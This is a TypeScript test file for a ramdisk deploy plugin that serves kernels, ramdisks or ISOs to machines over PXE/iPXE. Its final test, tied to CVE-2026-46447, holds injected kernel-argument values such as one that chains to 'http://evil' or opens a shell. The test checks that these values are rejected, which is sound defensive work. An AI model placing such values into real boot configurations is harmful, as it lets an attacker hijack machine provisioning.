import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { BootInterface, JsonObject, Node } from '../../../../daemon/plugin-api/index.ts';
import { ramdiskDeploy } from '../../../../plugins/agent/deploy/ramdisk.ts';
import { ipxeBoot, pxeBoot } from '../../../../plugins/pxe/boot.ts';
import { rejectsFault } from '../../../fakes/faults.ts';
import { fakeTask, notingBootDevices } from '../../../fakes/task.ts';

const kernel = { kernel: 'http://i/vmlinuz', ramdisk: 'http://i/initrd' };
const live = { boot_iso: 'http://i/live.iso' };

function scene(instance_info: JsonObject, node: Partial<Node> = {}, boot: BootInterface = ipxeBoot) {
  const devices: string[] = [];
  const task = fakeTask({
    node: {
      name: 'rack1-01',
      boot_interface: 'ipxe',
      driver_info: { deploy_kernel: 'http://i/ipa.kernel', deploy_ramdisk: 'http://i/ipa.ramdisk' },
      provision_state: 'deploying',
      instance_info,
      ...node,
    },
    configuration: {
      pxe: { kernel_append_params: 'nofb' },
      deploy: { default_boot_mode: 'uefi' },
      conductor: {},
    },
    driver: {
      boot,
      deploy: ramdiskDeploy,
      management: notingBootDevices(devices),
    },
  });
  return { task, devices };
}

const deploy = async ({ task }: ReturnType<typeof scene>) => {
  await ramdiskDeploy.validate(task);
  await ramdiskDeploy.prepare?.(task);
  return ramdiskDeploy.steps?.['deploy']?.run(task, {});
};

test('kernel and ramdisk of the instance are served for every boot, and no agent is waited for', async () => {
  const machine = scene({ ...kernel, ramdisk_kernel_arguments: 'quiet coreos.inst=yes' });
  assert.equal(await deploy(machine), 'done');
  assert.deepEqual(machine.task.done, [
    'set power off',
    'serve ipxe http://i/vmlinuz http://i/initrd',
    'set power on',
  ]);
  assert.deepEqual(machine.devices, ['pxe persistently']);
  const [served] = machine.task.served;
  assert.deepEqual(served?.kind === 'kernel' && served.parameters, {
    nofb: null,
    root: '/dev/ram0',
    text: null,
    quiet: null,
    'coreos.inst': 'yes',
  });
});

test('a CD image of the instance is served to iPXE', async () => {
  const machine = scene(live);
  await deploy(machine);
  assert.deepEqual(machine.task.done, ['set power off', 'serve ipxe http://i/live.iso', 'set power on']);
});

test('the instance is served again after a service, and served when the node is adopted', async () => {
  for (const operation of ['takeOver', 'tearDownService'] as const) {
    const { task } = scene(live);
    await ramdiskDeploy[operation]?.(task);
    assert.ok(task.done.includes('serve ipxe http://i/live.iso'), operation);
  }
});

test('removing the instance powers the machine off and withdraws its network boot', async () => {
  const { task } = scene(live);
  await ramdiskDeploy.tearDown?.(task);
  assert.deepEqual(task.done, ['set power off', 'withdraw the network boot']);
});

test('a missing or unbootable system, boot_iso beside image_source, and wrong kernel arguments are refused', async () => {
  const refused = async (instance: JsonObject, reason: RegExp, boot?: BootInterface) =>
    rejectsFault(
      Promise.resolve(ramdiskDeploy.validate(scene(instance, {}, boot).task)),
      reason.source.includes('boot interface') ? 'UnsupportedDriverExtension' : 'InvalidParameter',
      reason,
    );
  await refused({}, /instance_info\/kernel: it is missing; deploy interface ramdisk boots/);
  await refused({ kernel: 'http://i/k' }, /instance_info\/ramdisk: it is missing/);
  await refused({ ...live, image_source: 'http://i/x' }, /image_source is set too; keep one/);
  await refused({ ...kernel, ramdisk_kernel_arguments: 'a="b' }, /expected words such as NAME/);
  await refused(live, /booting CD images \(boot_iso\) through boot interface ipxe/, pxeBoot);
  await ramdiskDeploy.validate(scene(kernel, {}, pxeBoot).task);
});

// CVE-2026-46447: kernel arguments that inject lines into a boot script
test('kernel arguments with control characters are refused when the deployment is requested', async () => {
  for (const injected of ['a=b\nchain http://evil', 'a=b\0', 'quiet\r\nshell']) {
    const { task } = scene({ ...kernel, ramdisk_kernel_arguments: injected });
    await rejectsFault(Promise.resolve(ramdiskDeploy.validate(task)), 'InvalidParameter', /expected words/);
    const appended = scene({ ...kernel, kernel_append_params: injected }).task;
    await rejectsFault(
      Promise.resolve(ramdiskDeploy.validate(appended)),
      'InvalidParameter',
      /expected words/,
    );
  }
});
